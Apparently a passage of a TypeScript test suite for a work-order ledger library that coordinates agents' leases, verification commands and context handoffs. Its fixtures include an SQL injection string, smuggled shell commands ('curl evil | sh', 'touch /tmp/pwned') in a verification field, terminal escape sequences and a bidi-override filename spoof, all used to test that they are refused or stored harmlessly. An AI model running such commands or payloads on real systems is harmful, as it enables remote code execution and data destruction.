/** Behaviour of DESIGN.md §3-5 through the library API, once per back end, with a hand-moved clock. */
import assert from "node:assert/strict";
import { afterEach, beforeEach, describe, it } from "node:test";
import { rejects } from "../helpers/rejects.ts";
import type { LedgerApi } from "../../src/core/api.ts";
import { backends, clock, type Clock } from "./backends.ts";

for (const backend of backends) {
  describe(`ledger on ${backend.name}`, () => {
    let l: LedgerApi;
    let t: Clock;
    let cleanup: () => Promise<void>;
    const P = "proj";
    const make = (...titles: string[]) => l.create({ project: P, agent: "obs", items: titles.map((title) => ({ title })) });

    beforeEach(async () => {
      t = clock();
      ({ ledger: l, cleanup } = await backend.open(t));
    });
    afterEach(async () => cleanup());

    describe("work orders", () => {
      it("creates with defaults and per-project ids starting at 1", async () => {
        const [a, b] = await make("one", "two");
        assert.equal(a?.id, 1);
        assert.equal(b?.id, 2);
        assert.equal(a?.priority, "P2");
        assert.equal(a?.status, "open");
        assert.equal(a?.revision, 1);
        assert.equal(a?.created_by, "obs");
        const [other] = await l.create({ project: "other", agent: "obs", items: [{ title: "x" }] });
        assert.equal(other?.id, 1);
      });

      it("stores every field and returns it with notes", async () => {
        const fields = {
          title: "Fix",
          description: "**md**",
          repo: "org/x",
          acceptance: ["a", "b"],
          scope: "only x",
          files: ["src/**"],
          verification: "npm test",
          priority: "P0" as const,
          handover: "h",
          labels: ["bug"],
          depends_on: [],
        };
        const [wo] = await l.create({ project: P, agent: "obs", items: [fields] });
        const got = await l.get({ project: P, id: `WO-${wo?.id}` });
        assert.deepEqual({ ...got, notes: undefined, context: undefined, checkpoints: undefined }, { ...wo, notes: undefined, context: undefined, checkpoints: undefined });
        for (const [k, v] of Object.entries(fields)) assert.deepEqual(got[k as keyof typeof got], v, k);
        assert.deepEqual(got.notes, []);
      });

      it("keeps awkward text exactly, through create, update and a claim (every write path)", async () => {
        // Quotes, backslashes, JSON and SQL look-alikes, array syntax, non-ASCII: each store encodes
        // these its own way (PostgreSQL sends a WO as one JSON parameter), and none may change them.
        const odd = [`it's "quoted"`, String.raw`C:\path\n\u0041 \\`, `{"a":[1,"}"]}`, `'); DROP TABLE work_orders; --`, `{x,"y"}`, "ünï 😀 日本"];
        const fields = {
          title: odd[0]!,
          description: odd.join("\n"),
          repo: odd[1]!,
          acceptance: odd,
          scope: odd[2]!,
          files: ["src/{a,b}/*.ts", "it's.md"],
          verification: odd[3]!,
          handover: odd[4]!,
          labels: ["x,y", "{z}", `"q"`, "ü"],
        };
        const [wo] = await l.create({ project: P, agent: "obs", items: [fields] });
        const same = (got: object, want: object) => {
          for (const [k, v] of Object.entries(want)) assert.deepEqual((got as Record<string, unknown>)[k], v, k);
        };
        same(await l.get({ project: P, id: wo!.id }), fields);
        const changed = { title: odd[5]!, description: odd[3]!, acceptance: [...odd].reverse(), labels: ["\\", "'"] };
        await l.update({ project: P, agent: "obs", id: wo!.id, fields: changed, note: odd.join(" ") });
        same(await l.get({ project: P, id: wo!.id }), { ...fields, ...changed });
        // Agent names are ASCII; every punctuation mark they may hold, at once.
        await l.claim({ project: P, agent: "o.b_c@d:e+f/g-h", id: wo!.id });
        assert.equal((await l.get({ project: P, id: wo!.id })).lease?.agent, "o.b_c@d:e+f/g-h");
        same(await l.get({ project: P, id: wo!.id }), { ...fields, ...changed });
        assert.equal((await l.get({ project: P, id: wo!.id })).notes.at(-1)?.body, odd.join(" "));
      });

      it("creates a batch atomically: one bad item writes nothing", async () => {
        await make("seed");
        await rejects(l.create({ project: P, agent: "obs", items: [{ title: "ok" }, { title: "" }] }), "VALIDATION");
        await rejects(l.create({ project: P, agent: "obs", items: [{ title: "   " }] }), "VALIDATION", /title: must not be blank/);
        await rejects(l.create({ project: P, agent: "obs", items: [{ title: "ok" }, { title: "dep", depends_on: [99] }] }), "VALIDATION");
        assert.equal((await l.list({ project: P, status: "all" })).length, 1);
        const [next] = await make("after");
        assert.equal(next?.id, 2, "no ids were burnt by the failed batches");
      });

      it("makes retries with an idempotency key safe", async () => {
        const req = { project: P, agent: "obs", items: [{ title: "a" }, { title: "b" }], idempotency_key: "obs-1" };
        const first = await l.create(req);
        const again = await l.create(req);
        assert.deepEqual(
          again.map((w) => w.id),
          first.map((w) => w.id),
        );
        assert.equal((await l.list({ project: P, status: "all" })).length, 2);
        await rejects(l.create({ ...req, items: [{ title: "different" }] }), "IDEMPOTENCY_MISMATCH");
      });

      it("reads of unknown projects and ids are NOT_FOUND", async () => {
        await rejects(l.get({ project: "nope", id: 1 }), "NOT_FOUND");
        await rejects(l.list({ project: "nope" }), "NOT_FOUND");
        await rejects(l.claim({ project: "nope", agent: "a", next: true }), "NOT_FOUND");
        await make("x");
        await rejects(l.get({ project: P, id: 2 }), "NOT_FOUND");
        await rejects(l.claim({ project: P, agent: "a", id: 2 }), "NOT_FOUND");
      });

      it("lists by status (default hides done and cancelled), label, holder and limit", async () => {
        await l.create({ project: P, agent: "obs", items: [{ title: "a", labels: ["x"] }, { title: "b" }, { title: "c" }, { title: "d" }] });
        await l.update({ project: P, agent: "obs", role: "admin", id: 3, status: "done" });
        await l.update({ project: P, agent: "obs", role: "admin", id: 4, status: "cancelled" });
        await l.claim({ project: P, agent: "alice", id: 2 });
        const ids = async (q: object) => (await l.list({ project: P, ...q })).map((w) => w.id);
        assert.deepEqual(await ids({}), [1, 2]);
        assert.deepEqual(await ids({ status: "all" }), [1, 2, 3, 4]);
        assert.deepEqual(await ids({ status: "open" }), [1]);
        assert.deepEqual(await ids({ status: "claimed" }), [2]);
        assert.deepEqual(await ids({ status: "done" }), [3]);
        assert.deepEqual(await ids({ label: "x" }), [1]);
        assert.deepEqual(await ids({ agent: "alice" }), [2]);
        assert.deepEqual(await ids({ status: "all", limit: 2 }), [1, 2]);
        assert.deepEqual(
          (await l.list({})).map((w) => w.project),
          [P, P],
          "without a project: every project",
        );
      });

      it("the default list merges its statuses in id order and cuts at the limit", async () => {
        await make("a", "b", "c", "d", "e", "f", "g");
        await l.claim({ project: P, agent: "alice", id: 2 });
        await l.update({ project: P, agent: "obs", role: "admin", id: 3, status: "blocked" });
        await l.update({ project: P, agent: "obs", role: "admin", id: 4, status: "done" });
        await l.claim({ project: P, agent: "bob", id: 5 });
        await l.update({ project: P, agent: "obs", role: "admin", id: 7, status: "blocked" });
        const ids = async (q: object) => (await l.list({ project: P, ...q })).map((w) => w.id);
        assert.deepEqual(await ids({}), [1, 2, 3, 5, 6, 7]);
        assert.deepEqual(await ids({ limit: 4 }), [1, 2, 3, 5]);
        assert.deepEqual(await ids({ limit: 1 }), [1]);
        assert.deepEqual(await ids({ agent: "bob" }), [5]);
        assert.deepEqual(await ids({ status: "blocked", limit: 1 }), [3]);
        assert.deepEqual(
          (await l.list({ status: "claimed" })).map((w) => w.id),
          [2, 5],
          "without a project",
        );
      });

      it("counts per status per project", async () => {
        await make("a", "b");
        await l.claim({ project: P, agent: "a", id: 1 });
        const [p] = await l.projects();
        assert.deepEqual(p?.counts, { open: 1, claimed: 1, blocked: 0, done: 0, cancelled: 0 });
        assert.equal((await l.createProject({ project: P, agent: "a" })).created, false);
        assert.equal((await l.createProject({ project: "new", agent: "a" })).created, true);
        // Every status, done ones counted as the rest of the project's ids (issue 29): as many as there are.
        await make("c", "d", "e", "f");
        await l.release({ project: P, agent: "a", id: 1, status: "done" });
        await l.update({ project: P, agent: "obs", id: 3, status: "cancelled" });
        await l.claim({ project: P, agent: "b", id: 4 });
        await l.release({ project: P, agent: "b", id: 4, status: "blocked", note: "waits" });
        await l.claim({ project: P, agent: "b", id: 5 });
        await l.release({ project: P, agent: "b", id: 5, status: "done" });
        const counted = (await l.projects()).find((x) => x.name === P)!.counts;
        const real = Object.fromEntries(["open", "claimed", "blocked", "done", "cancelled"].map((st) => [st, 0]));
        for (const w of await l.list({ project: P, status: "all" })) real[w.status]!++;
        assert.deepEqual(counted, real);
        assert.deepEqual((await l.projects()).find((x) => x.name === "new")!.counts, { open: 0, claimed: 0, blocked: 0, done: 0, cancelled: 0 });
      });
    });

    describe("leases", () => {
      it("first claim wins; the loser learns holder and expiry", async () => {
        await make("x");
        const won = await l.claim({ project: P, agent: "alice", id: 1, ttl: "10m" });
        assert.equal(won.status, "claimed");
        assert.equal(won.lease?.agent, "alice");
        assert.equal(won.lease?.token, 1);
        assert.equal(won.lease?.expires_at, new Date(t.now + 600_000).toISOString());
        const e = await rejects(l.claim({ project: P, agent: "bob", id: 1 }), "LEASE_HELD");
        assert.equal(e.details?.holder, "alice");
        assert.equal(e.details?.expires_at, won.lease?.expires_at);
      });

      it("defaults to a 30 minute TTL", async () => {
        await make("x");
        const wo = await l.claim({ project: P, agent: "a", id: 1 });
        assert.equal(Date.parse(wo.lease!.expires_at) - t.now, 30 * 60_000);
      });

      it("expiry returns the work to the pool and is recorded on the next touch", async () => {
        await make("x");
        await l.claim({ project: P, agent: "alice", id: 1, ttl: "90s" });
        t.advance(89_000);
        assert.equal((await l.get({ project: P, id: 1 })).status, "claimed");
        t.advance(1_000);
        const view = await l.get({ project: P, id: 1 });
        assert.equal(view.status, "open");
        assert.equal(view.lease, null);
        assert.deepEqual(
          (await l.findUnclaimed({ project: P })).map((w) => w.id),
          [1],
        );
        const types = (await l.history({ project: P, id: 1 })).map((e) => e.type);
        assert.deepEqual(types, ["created", "claimed", "expired"]);
        const taken = await l.claim({ project: P, agent: "bob", id: 1 });
        assert.equal(taken.lease?.token, 2, "the fencing token grew");
      });

      it("renew extends a live lease and fails with LEASE_LOST once expired, even if nobody re-claimed", async () => {
        await make("x");
        await l.claim({ project: P, agent: "a", id: 1, ttl: "60s" });
        t.advance(30_000);
        const r = await l.renew({ project: P, agent: "a", id: 1, ttl: "60s" });
        assert.equal(r.lease?.expires_at, new Date(t.now + 60_000).toISOString());
        await rejects(l.renew({ project: P, agent: "b", id: 1 }), "LEASE_HELD");
        t.advance(61_000);
        await rejects(l.renew({ project: P, agent: "a", id: 1 }), "LEASE_LOST");
      });

      it("stale fencing tokens are rejected for renew, release and update", async () => {
        await make("x");
        const first = await l.claim({ project: P, agent: "a", id: 1, ttl: "60s" });
        t.advance(61_000);
        const second = await l.claim({ project: P, agent: "a", id: 1, ttl: "60s" });
        const stale = first.lease!.token;
        await rejects(l.renew({ project: P, agent: "a", id: 1, lease_token: stale }), "LEASE_LOST");
        await rejects(l.release({ project: P, agent: "a", id: 1, lease_token: stale }), "LEASE_LOST");
        await rejects(l.update({ project: P, agent: "a", id: 1, status: "done", lease_token: stale }), "LEASE_LOST");
        const done = await l.update({ project: P, agent: "a", id: 1, status: "done", lease_token: second.lease!.token });
        assert.equal(done.status, "done");
      });

      it("release restores the prior status; --status and --note in the same step", async () => {
        await make("x", "y");
        await l.update({ project: P, agent: "o", role: "admin", id: 2, status: "blocked" });
        await l.claim({ project: P, agent: "a", id: 2 });
        assert.equal((await l.release({ project: P, agent: "a", id: 2 })).status, "blocked");
        await l.claim({ project: P, agent: "a", id: 1 });
        await rejects(l.release({ project: P, agent: "b", id: 1 }), "LEASE_HELD");
        const done = await l.release({ project: P, agent: "a", id: 1, status: "done", note: "all green" });
        assert.equal(done.status, "done");
        const got = await l.get({ project: P, id: 1 });
        assert.deepEqual(
          got.notes.map((n) => [n.kind, n.body]),
          [["progress", "all green"]],
        );
      });

      it("the seed's two-step release then update --status done works", async () => {
        await make("x");
        await l.claim({ project: P, agent: "a", id: 1 });
        await l.release({ project: P, agent: "a", id: 1 });
        assert.equal((await l.update({ project: P, agent: "a", id: 1, status: "done" })).status, "done");
      });

      it("done and cancelled cannot be claimed; update --status open reopens (a done one: an admin)", async () => {
        await make("x");
        await l.claim({ project: P, agent: "a", id: 1 });
        await l.release({ project: P, agent: "a", id: 1, status: "done" });
        await rejects(l.claim({ project: P, agent: "a", id: 1 }), "ILLEGAL_TRANSITION");
        await l.update({ project: P, agent: "root", role: "admin", id: 1, status: "open" });
        assert.equal((await l.claim({ project: P, agent: "a", id: 1 })).status, "claimed");
      });

      it("non-holders may add notes but not change fields or status", async () => {
        await make("x");
        await l.claim({ project: P, agent: "a", id: 1 });
        await rejects(l.update({ project: P, agent: "b", id: 1, fields: { title: "mine" } }), "LEASE_HELD");
        await rejects(l.update({ project: P, agent: "b", id: 1, status: "cancelled" }), "LEASE_HELD");
        const note = await l.addNote({ project: P, agent: "b", id: 1, kind: "finding", body: "saw this" });
        assert.equal(note.agent, "b");
        assert.equal((await l.get({ project: P, id: 1 })).title, "x");
      });

      it("claim --next takes the most urgent free WO whose dependencies are done", async () => {
        await l.create({
          project: P,
          agent: "o",
          items: [
            { title: "low", priority: "P3" },
            { title: "urgent", priority: "P0" },
            { title: "mid", priority: "P1" },
          ],
        });
        await l.create({ project: P, agent: "o", items: [{ title: "after urgent", priority: "P0", depends_on: [2] }] });
        assert.deepEqual(
          (await l.findUnclaimed({ project: P })).map((w) => w.id),
          [2, 3, 1],
        );
        assert.equal((await l.claim({ project: P, agent: "a", next: true })).id, 2);
        assert.equal((await l.claim({ project: P, agent: "b", next: true })).id, 3);
        await rejects(l.claim({ project: P, agent: "c", id: 4 }), "DEPENDENCY_PENDING");
        await l.update({ project: P, agent: "a", id: 2, status: "done" });
        assert.equal((await l.claim({ project: P, agent: "c", next: true })).id, 4);
        assert.equal((await l.claim({ project: P, agent: "d", next: true })).id, 1);
        await rejects(l.claim({ project: P, agent: "e", next: true }), "NOTHING_TO_CLAIM");
      });

      it("claim --next records lapsed leases first and takes a lapsed WO ahead of less urgent open work", async () => {
        await l.create({
          project: P,
          agent: "o",
          items: [
            { title: "urgent", priority: "P0" },
            { title: "later", priority: "P3" },
          ],
        });
        await l.claim({ project: P, agent: "crashed", id: 1, ttl: "60s" });
        t.advance(61_000);
        const taken = await l.claim({ project: P, agent: "b", next: true });
        assert.equal(taken.id, 1, "the expired P0 comes back before the open P3");
        assert.equal(taken.lease?.token, 2);
        assert.deepEqual(
          (await l.history({ project: P, id: 1 })).map((e) => e.type),
          ["created", "claimed", "expired", "claimed"],
        );
        assert.equal((await l.claim({ project: P, agent: "c", next: true })).id, 2);
      });

      it("same-file protection: warns on claim, refuses with exclusive_files, claim --next skips", async () => {
        await l.create({
          project: P,
          agent: "o",
          items: [
            { title: "a", files: ["src/api/**"] },
            { title: "b", files: ["src/api/users.ts"] },
            { title: "c", files: ["docs/x.md"] },
          ],
        });
        await l.claim({ project: P, agent: "alice", id: 1 });
        const unclaimed = await l.findUnclaimed({ project: P });
        assert.deepEqual(
          unclaimed.map((w) => [w.id, w.file_conflicts.map((c) => c.id)]),
          [
            [2, [1]],
            [3, []],
          ],
        );
        const e = await rejects(l.claim({ project: P, agent: "bob", id: 2, exclusive_files: true }), "FILE_CONFLICT");
        assert.match(e.message, /WO-1 \(alice\)/);
        assert.equal((await l.claim({ project: P, agent: "bob", next: true })).id, 3);
        const warned = await l.claim({ project: P, agent: "carol", id: 2 });
        assert.deepEqual(
          warned.file_conflicts.map((c) => [c.id, c.agent]),
          [[1, "alice"]],
        );
      });

      it("update --if-revision is compare-and-set", async () => {
        await make("x");
        await rejects(l.update({ project: P, agent: "obs", id: 1, fields: { title: "y" }, if_revision: 7 }), "REVISION_MISMATCH");
        assert.equal((await l.update({ project: P, agent: "obs", id: 1, fields: { title: "y" }, if_revision: 1 })).revision, 2);
      });

      it("history shows every revision with field diffs (enrichment is visible)", async () => {
        await make("rough");
        await l.claim({ project: P, agent: "smart", id: 1 });
        await l.update({ project: P, agent: "smart", id: 1, fields: { title: "Sharp title", acceptance: ["tests pass"] } });
        await l.release({ project: P, agent: "smart", id: 1 });
        const events = await l.history({ project: P, id: 1 });
        assert.deepEqual(
          events.map((e) => [e.type, e.revision]),
          [
            ["created", 1],
            ["claimed", 2],
            ["updated", 3],
            ["released", 4],
          ],
        );
        assert.deepEqual(events[2]?.data.changes, { title: { from: "rough", to: "Sharp title" }, acceptance: { from: [], to: ["tests pass"] } });
        assert.equal(events[2]?.agent, "smart");
      });

      it("refuses dependency cycles", async () => {
        await make("a", "b", "c");
        await l.update({ project: P, agent: "obs", id: 2, fields: { depends_on: [1] } });
        await l.update({ project: P, agent: "obs", id: 3, fields: { depends_on: [2] } });
        const e = await rejects(l.update({ project: P, agent: "obs", id: 1, fields: { depends_on: [3] } }), "VALIDATION");
        assert.match(e.message, /cycle WO-1 → WO-3 → WO-2 → WO-1/);
        await rejects(l.update({ project: P, agent: "obs", id: 1, fields: { depends_on: [1] } }), "VALIDATION", /WO-1 cannot depend on itself/);
      });

      it("update requires some change", async () => {
        await make("x");
        await rejects(l.update({ project: P, agent: "a", id: 1 }), "VALIDATION");
      });
    });

    describe("text that is not text (issue 13)", () => {
      it("refuses lone surrogates everywhere, and bidi overrides and C1 controls on single lines", async () => {
        await make("x");
        const before = JSON.stringify(await l.get({ project: P, id: 1 }));
        const refused = async (p: Promise<unknown>, field: RegExp) => assert.match((await rejects(p, "VALIDATION")).message, field);
        await refused(l.create({ project: P, agent: "a", items: [{ title: "bad \ud800" }] }), /^title: must be valid Unicode text/);
        await refused(l.create({ project: P, agent: "a", items: [{ title: "ok" }, { title: "bad \ud800" }] }), /items\[1\]\.title: must be valid Unicode text/);
        await refused(l.create({ project: P, agent: "a", items: [{ title: "ok", description: "tail \udc00" }] }), /description: must be valid Unicode/);
        await refused(l.update({ project: P, agent: "a", id: 1, fields: { acceptance: ["\ud83d"] } }), /acceptance\[0\]/);
        await refused(l.addNote({ project: P, agent: "a", id: 1, body: "\ud800" }), /body/);
        await refused(l.contextPut({ project: P, agent: "a", body: "x", key: "k\udfff" }), /key/);
        await refused(l.update({ project: P, agent: "a", id: 1, fields: { title: "invoice\u202egnp.exe" } }), /title: must be a single line/);
        await refused(l.update({ project: P, agent: "a", id: 1, fields: { labels: ["\u2066x"] } }), /labels\[0\]/);
        await refused(l.update({ project: P, agent: "a", id: 1, fields: { verification: "npm test \u009b2J" } }), /verification/);
        await refused(l.update({ project: P, agent: "a", id: 1, fields: { description: "C1 \u0085 in text" } }), /description: must not contain control characters/);
        assert.equal(JSON.stringify(await l.get({ project: P, id: 1 })), before);
        // Pairs are text, and right-to-left text without overrides is fine.
        const [ok] = await l.create({ project: P, agent: "a", items: [{ title: "😀 שלום", description: "\u202b embedding in free text" }] });
        assert.equal(ok?.title, "😀 שלום");
      });

      it("validates git head and branch of context like every other line (no terminal escapes)", async () => {
        for (const git of [
          { head: "abc\u001b]0;pwned\u0007", branch: "main", dirty: false },
          { head: "abc", branch: "main\u001b[2J", dirty: false },
          { head: "abc", branch: "\ud800", dirty: false },
        ]) {
          await rejects(l.contextPut({ project: P, agent: "a", body: "x", git }), "VALIDATION");
        }
        await make("x");
        await rejects(l.contextPull({ project: P, git: { head: "\u001b[31m", branch: null, dirty: false } }), "VALIDATION");
      });
    });

    describe("verification and notes", () => {
      const git = { head: "0123456789abcdef0123", branch: "wo/1", dirty: true };
      const result = (passed: boolean) => ({ passed, exit_code: passed ? 0 : 1, duration_ms: 1200, output_tail: passed ? "ok" : "2 failed" });

      it("records the holder's result with the command, who ran it and on which HEAD, and blocks with block_on_fail", async () => {
        await l.create({ project: P, agent: "o", items: [{ title: "x", verification: "npm test" }] });
        await l.claim({ project: P, agent: "a", role: "agent", id: 1 });
        assert.deepEqual(await l.verifyCommand({ project: P, agent: "a", role: "agent", id: 1 }), {
          project: P,
          id: 1,
          command: "npm test",
          author: "o",
          sandbox: { required: false, network: false, env: [] },
        });
        const r = await l.recordVerification({ project: P, agent: "a", role: "agent", id: 1, ...result(false), command: "npm test", git, block_on_fail: true });
        assert.equal(r.work_order.status, "blocked");
        assert.equal(r.work_order.lease, null);
        assert.equal(r.command, "npm test");
        assert.deepEqual(r.git, git);
        assert.equal(r.note.kind, "verification");
        assert.match(r.note.body, /FAILED \(exit 1\) in 1\.2s \(sandbox: none\) by a at 0123456789ab \(wo\/1, dirty\): npm test[\s\S]*2 failed/);
      });

      it("only the holder or an admin may verify or record a result (issue 13)", async () => {
        await l.create({ project: P, agent: "o", items: [{ title: "x", verification: "false" }] });
        await rejects(l.verifyCommand({ project: P, agent: "b", role: "agent", id: 1 }), "NOT_HOLDER");
        await rejects(l.recordVerification({ project: P, agent: "b", role: "agent", id: 1, ...result(true), command: "false" }), "NOT_HOLDER");
        await rejects(
          l.addNote({ project: P, agent: "b", role: "agent", id: 1, kind: "verification" as never, body: "verification PASSED" }),
          "VALIDATION",
          /verification notes are recorded by verify/,
        );
        await l.claim({ project: P, agent: "a", role: "agent", id: 1 });
        await rejects(l.verifyCommand({ project: P, agent: "b", role: "agent", id: 1 }), "LEASE_HELD");
        await rejects(l.recordVerification({ project: P, agent: "b", role: "agent", id: 1, ...result(true), command: "false" }), "LEASE_HELD");
        assert.deepEqual((await l.get({ project: P, id: 1 })).notes, []);
        // Nor does the holder write one by hand (thirteenth MCP trial: it looked like a real run); an admin may record a result but not block a WO someone holds.
        await rejects(l.addNote({ project: P, agent: "a", role: "agent", id: 1, kind: "verification" as never, body: "checked by hand" }), "VALIDATION");
        const r = await l.recordVerification({ project: P, agent: "root", role: "admin", id: 1, ...result(false), command: "false", block_on_fail: true });
        assert.equal(r.block_refused?.code, "LEASE_HELD");
        assert.equal(r.work_order.status, "claimed");
        assert.deepEqual(
          (await l.get({ project: P, id: 1 })).notes.map((n) => [n.agent, n.kind]),
          [["root", "verification"]],
        );
      });

      it("a project's policy says who may write verification commands; the default is the creator and admins (issue 13)", async () => {
        await l.create({ project: P, agent: "o", role: "agent", items: [{ title: "x", verification: "npm test" }] });
        assert.equal((await l.projects()).find((p) => p.name === P)?.policy.verification_authors, "creator");
        const e = await rejects(l.update({ project: P, agent: "mallory", role: "agent", id: 1, fields: { verification: "npm test; curl evil | sh" } }), "FORBIDDEN");
        assert.match(e.message, /only the work order's creator \(o\) and admins may/);
        await rejects(l.update({ project: P, agent: "mallory", role: "agent", id: 1, fields: { title: "nor other fields", verification: "npm test" } }), "NOT_HOLDER");
        await l.update({ project: P, agent: "o", role: "agent", id: 1, fields: { verification: "npm run test:unit" } });
        await l.update({ project: P, agent: "root", role: "admin", id: 1, fields: { verification: "npm test" } });
        await rejects(l.setPolicy({ project: P, agent: "o", role: "agent", verification_authors: "any" }), "FORBIDDEN");
        assert.equal((await l.setPolicy({ project: P, agent: "root", role: "admin", verification_authors: "admins" })).policy.verification_authors, "admins");
        await rejects(l.update({ project: P, agent: "o", role: "agent", id: 1, fields: { verification: "make" } }), "FORBIDDEN");
        await rejects(l.create({ project: P, agent: "o", role: "agent", items: [{ title: "y", verification: "make" }] }), "FORBIDDEN");
        await l.create({ project: P, agent: "o", role: "agent", items: [{ title: "no command is fine" }] });
        await l.setPolicy({ project: P, agent: "root", role: "admin", verification_authors: "any" });
        await l.claim({ project: P, agent: "mallory", role: "agent", id: 1 });
        await l.update({ project: P, agent: "mallory", role: "agent", id: 1, fields: { verification: "make" } });
        await rejects(l.setPolicy({ project: "ghost", agent: "root", role: "admin", verification_authors: "any" }), "NOT_FOUND");
        await rejects(l.setPolicy({ project: P, agent: "root", role: "admin", verification_authors: "everyone" as "any" }), "VALIDATION");
      });

      it("the command is pinned at the claim: nobody else changes what the holder runs (issue 13)", async () => {
        await l.create({ project: P, agent: "o", role: "agent", items: [{ title: "x", verification: "npm test" }] });
        await l.claim({ project: P, agent: "a", role: "agent", id: 1 });
        for (const [agent, role] of [
          ["o", "agent"],
          ["root", "admin"],
        ] as const) {
          await rejects(l.update({ project: P, agent, role, id: 1, fields: { verification: "npm test; touch /tmp/pwned" } }), "LEASE_HELD");
        }
        assert.equal((await l.verifyCommand({ project: P, agent: "a", role: "agent", id: 1 })).command, "npm test");
        // The result must name the command verify may run: a holder cannot record one for another command.
        await rejects(l.recordVerification({ project: P, agent: "a", role: "agent", id: 1, ...result(true), command: "true" }), "VERIFICATION_CHANGED");
        // Changed between leases: the next claim pins the new command.
        await l.release({ project: P, agent: "a", role: "agent", id: 1 });
        await l.update({ project: P, agent: "o", role: "agent", id: 1, fields: { verification: "npm run test:all" } });
        await l.claim({ project: P, agent: "a", role: "agent", id: 1 });
        assert.equal((await l.verifyCommand({ project: P, agent: "a", role: "agent", id: 1 })).command, "npm run test:all");
      });

      it("a holder's own change under its lease counts as changed, a blank too: it claims again to verify with it (issue 24, finding 15)", async () => {
        await l.create({ project: P, agent: "o", role: "agent", items: [{ title: "x", verification: "npm test" }] });
        await l.claim({ project: P, agent: "o", role: "agent", id: 1 });
        const wo = await l.update({ project: P, agent: "o", role: "agent", id: 1, fields: { verification: "" } });
        assert.equal(wo.verification_by, null);
        await rejects(l.verifyCommand({ project: P, agent: "o", role: "agent", id: 1 }), "VERIFICATION_CHANGED");
        // Finishing is judged by the command it claimed with: it warns, it is not silently clean.
        const done = await l.release({ project: P, agent: "o", role: "agent", id: 1, status: "done" });
        assert.match(done.warnings?.join(" ") ?? "", /without a passing verification.*npm test/);
        await l.update({ project: P, agent: "root", role: "admin", id: 1, status: "open" });
        await l.update({ project: P, agent: "o", role: "agent", id: 1, fields: { verification: "npm run check" } });
        await l.claim({ project: P, agent: "o", role: "agent", id: 1 });
        assert.equal((await l.verifyCommand({ project: P, agent: "o", role: "agent", id: 1 })).command, "npm run check");
      });

      it("rejects empty notes and unknown kinds", async () => {
        await make("x");
        await rejects(l.addNote({ project: P, agent: "a", id: 1, body: "" }), "VALIDATION");
        await rejects(l.addNote({ project: P, agent: "a", id: 1, body: "x", kind: "rant" as "progress" }), "VALIDATION");
      });
    });

    describe("context handoff", () => {
      const git = (head: string) => ({ head, branch: "main", dirty: false });

      it("returns the newest entry per key with age, author and a verdict", async () => {
        await l.contextPut({ project: P, agent: "a", body: "old", git: git("aaa") });
        t.advance(1000);
        await l.contextPut({ project: P, agent: "b", body: "new", git: git("aaa") });
        await l.contextPut({ project: P, agent: "b", key: "deploy", body: "prod is on v2" });
        t.advance(5000);
        const pull = await l.contextPull({ project: P, git: git("aaa") });
        assert.equal(pull.verdict, "fresh");
        assert.deepEqual(
          pull.entries.map((e) => [e.key, e.body, e.agent, e.age_ms]),
          [
            ["deploy", "prod is on v2", "b", 5000],
            ["handover", "new", "b", 5000],
          ],
        );
        const history = await l.contextHistory({ project: P, key: "handover" });
        assert.deepEqual(
          history.entries.map((e) => e.body),
          ["new", "old"],
        );
      });

      it("is stale when older than max_age or when the repository moved", async () => {
        await l.contextPut({ project: P, agent: "a", body: "b", git: git("aaa") });
        t.advance(2 * 3_600_000);
        assert.equal((await l.contextPull({ project: P, max_age: "1h" })).verdict, "stale");
        assert.equal((await l.contextPull({ project: P, max_age: "3h", git: git("aaa") })).verdict, "fresh");
        const moved = await l.contextPull({ project: P, max_age: "3h", git: git("bbb") });
        assert.equal(moved.verdict, "stale");
        assert.match(moved.entries[0]?.stale_reasons[0] ?? "", /moved/);
        t.advance(23 * 3_600_000);
        assert.equal((await l.contextPull({ project: P })).verdict, "stale", "24h default");
      });

      it("judges HEAD only on the branch the entry was saved on: a worktree's handover is not stale from the main checkout (issue 23, tenth trials)", async () => {
        const on = (head: string, branch: string | null) => ({ head, branch, dirty: false });
        await l.contextPut({ project: P, agent: "a", body: "halfway", git: on("f72ea43", "wo/8-modulo") });
        const fromMain = await l.contextPull({ project: P, git: on("82e3e2b", "main") });
        assert.equal(fromMain.verdict, "fresh", JSON.stringify(fromMain.entries[0]?.stale_reasons));
        assert.equal((await l.contextPull({ project: P, git: on("f72ea43", "wo/8-modulo") })).verdict, "fresh");
        const moved = await l.contextPull({ project: P, git: on("9999999", "wo/8-modulo") });
        assert.equal(moved.verdict, "stale", "the branch it was saved on moved on");
        assert.equal((await l.contextPull({ project: P, git: on("82e3e2b", null) })).verdict, "stale", "a detached HEAD cannot say which line it is on: compared");
      });

      it("a WO's handover written before a later checkpoint of it is stale from wherever it is read (issue 23, eleventh trials)", async () => {
        const on = (head: string, branch: string | null) => ({ head, branch, dirty: false });
        await make("checkpointed");
        await l.claim({ project: P, agent: "a", id: 1 });
        await l.recordCheckpoint({ project: P, agent: "a", id: 1, commit: "1111111111111111111111111111111111111111", message: "one" });
        t.advance(1000);
        await l.contextPut({ project: P, agent: "a", id: 1, body: "step 1 of 3 done", git: on("1111111111111111111111111111111111111111", "wo/1-checkpointed") });
        assert.equal((await l.get({ project: P, id: 1, git: on("82e3e2b", "main") })).context.linked?.verdict, "fresh", "written at the last checkpoint");
        t.advance(1000);
        await l.recordCheckpoint({ project: P, agent: "a", id: 1, commit: "2222222222222222222222222222222222222222", message: "steps 2 and 3" });
        const linked = (await l.get({ project: P, id: 1, git: on("82e3e2b", "main") })).context.linked;
        assert.equal(linked?.verdict, "stale");
        assert.match(linked?.stale_reasons[0] ?? "", /checkpointed since it was written \(222222222222 at /);
        // context-pull judges it alike, with or without the WO named (twelfth trials: it said fresh).
        for (const pull of [
          await l.contextPull({ project: P, git: on("82e3e2b", "main") }),
          await l.contextPull({ project: P, id: 1 }),
          await l.contextHistory({ project: P, id: 1 }),
        ])
          assert.deepEqual([pull.verdict, pull.entries[0]?.verdict], ["stale", "stale"]);
      });

      it("links a work order, and the project must exist to pull", async () => {
        await rejects(l.contextPull({ project: "nope" }), "NOT_FOUND");
        await make("x");
        const e = await l.contextPut({ project: P, agent: "obs", body: "b", id: "WO-1" });
        assert.equal(e.wo, 1);
        await rejects(l.contextPut({ project: P, agent: "obs", body: "b", id: 9 }), "NOT_FOUND");
        assert.equal((await l.contextPull({ project: "proj" })).entries.length, 1);
        await rejects(l.contextPut({ project: P, agent: "a", body: "  " }), "VALIDATION");
      });

      it("a WO's newer handover does not hide the project's plan: the newest per key of each, newest first (issue 23, eleventh trials)", async () => {
        await make("x");
        await l.contextPut({ project: P, agent: "alice", body: "the plan: parser first, then the CLI" });
        t.advance(1000);
